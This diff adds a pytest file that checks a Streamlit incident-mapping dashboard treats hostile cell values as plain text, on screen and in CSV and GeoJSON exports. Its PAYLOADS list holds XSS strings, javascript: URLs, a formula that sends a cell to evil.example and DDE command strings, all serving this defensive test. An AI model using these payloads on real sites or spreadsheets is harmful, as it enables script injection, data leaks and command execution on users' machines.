@@ -1,0 +1,136 @@
+"""Every cell is hostile: what reaches the browser, spreadsheets and GIS from a payload."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import subprocess
+import sys
+import tomllib
+
+import pandas as pd
+import pytest
+import streamlit as st
+from hypothesis import given, settings
+from hypothesis import strategies as strategies
+from streamlit.testing.v1 import AppTest
+
+from dashboard.dataset import load_path
+from dashboard.export import FORMULA_TRIGGERS, to_csv_bytes, to_geojson_bytes
+from dashboard.layers import build_deck
+from dashboard.sources import MAX_BYTES
+
+from conftest import ROOT
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(document.cookie)</script>",
+    '<img src=x onerror="alert(1)">',
+    "javascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "{country} {place} {{7*7}}",
+    "$& $' $`",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\u202eevil\u202c right-to-left override",
+    "x" * 9_999,
+]
+
+
+@pytest.fixture
+def payload_file(tmp_path):
+    rows = [{"event_id": f"p{number}", "date": "2021-06-12", "country": "Nigeria",
+             "place": payload, "actor": payload, "notes": payload,
+             "source_url": payload if number % 2 else "javascript:alert(1)",
+             payload[:40].replace("\n", " ") or "blank": payload}
+            for number, payload in enumerate(PAYLOADS)]
+    path = tmp_path / "payload.csv"
+    columns = list(dict.fromkeys(key for row in rows for key in row))
+    with path.open("w", newline="", encoding="utf-8") as file:
+        writer = csv.DictWriter(file, fieldnames=columns)
+        writer.writeheader()
+        writer.writerows(rows)
+    return path
+
+
+def test_payloads_load_as_plain_text(payload_file):
+    table = load_path(payload_file)
+    assert len(table.accepted) == len(PAYLOADS)
+    assert table.accepted["place"].tolist() == PAYLOADS  # kept exactly, never interpreted
+    assert not table.accepted["source_url"].fillna("").str.contains("javascript:|data:").any()
+
+
+def test_the_map_spec_carries_payloads_only_as_data(payload_file):
+    spec = json.loads(build_deck(load_path(payload_file).accepted).to_json())
+    (points,) = [layer["data"] for layer in spec["layers"] if layer["id"] == "incidents"]
+    assert {point["place"] for point in points} == set(PAYLOADS)
+    assert all(set(point) <= {"longitude", "latitude", "radius", "colour", "place", "country",
+                              "date", "actor", "fatalities", "geo_precision"}
+               for point in points)  # notes and URLs never reach the map
+
+
+def test_the_page_shows_only_its_columns_plain_tooltips_and_http_links(payload_file, monkeypatch):
+    monkeypatch.setenv("DASHBOARD_DATA", str(payload_file))
+    st.cache_resource.clear()
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
+    assert not at.exception
+    # The tooltip template is ours alone and plain text; cell values are data that the
+    # browser fills in as text (Streamlit 1.60 and later).
+    tooltip = json.loads(at.get("deck_gl_json_chart")[0].proto.tooltip)
+    assert set(tooltip) == {"text"}
+    assert tooltip["text"].count("{") == 6  # place, country, date, actor, fatalities, precision
+    shown = at.dataframe[0].value
+    assert "blank" not in shown.columns  # a payload-named extra column stays on the server
+    assert not any(column.startswith("<") for column in shown.columns)
+    urls = shown["source_url"].dropna().tolist()
+    assert all(url.startswith(("http://", "https://")) for url in urls)
+
+
+def test_every_export_neutralises_or_quotes_payloads(payload_file, tmp_path):
+    incidents = load_path(payload_file).accepted
+    rows = list(csv.reader(io.StringIO(to_csv_bytes(incidents).decode(), newline="")))
+    assert len(rows) == len(PAYLOADS) + 1
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_TRIGGERS)
+    geojson = json.loads(to_geojson_bytes(incidents))
+    assert {f["properties"]["place"] for f in geojson["features"]} == set(PAYLOADS)
+
+
+def test_the_export_command_writes_the_same_safe_bytes(payload_file, tmp_path):
+    out = tmp_path / "out.csv"
+    subprocess.run([sys.executable, "-m", "dashboard", "export", str(payload_file), "-o",
+                    str(out)], check=True, capture_output=True, timeout=120)
+    assert out.read_bytes() == to_csv_bytes(load_path(payload_file).accepted)
+
+
+TEXT = strategies.text(strategies.characters(codec="utf-8", exclude_categories=["Cs"]),
+                       max_size=40)
+
+
+@settings(max_examples=300, deadline=None)
+@given(cells=strategies.lists(TEXT, min_size=1, max_size=15),
+       numbers=strategies.lists(strategies.floats(allow_nan=False, allow_infinity=False,
+                                                  width=32), min_size=1, max_size=15))
+def test_csv_cells_are_inert_and_give_back_the_original(cells, numbers):
+    size = min(len(cells), len(numbers))
+    frame = pd.DataFrame({"text": pd.Series(cells[:size], dtype="string"),
+                          "number": pd.Series(numbers[:size], dtype="float64")})
+    back = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode(), newline="")))
+    assert len(back) == size + 1  # CR/LF inside a cell never splits a row
+    for (text, number), original, value in zip(back[1:], cells, numbers, strict=False):
+        assert not text.startswith(FORMULA_TRIGGERS)
+        assert (text[1:] if original.startswith(FORMULA_TRIGGERS) else text) == original
+        assert float(number) == pytest.approx(value)
+
+
+def test_streamlit_settings():
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert config["browser"]["gatherUsageStats"] is False
+    assert config["client"]["showErrorDetails"] == "type"
+    assert config["server"]["enableXsrfProtection"] is True
+    assert config["server"]["maxUploadSize"] * 2**20 == MAX_BYTES
+    assert config["server"]["address"] == "localhost"
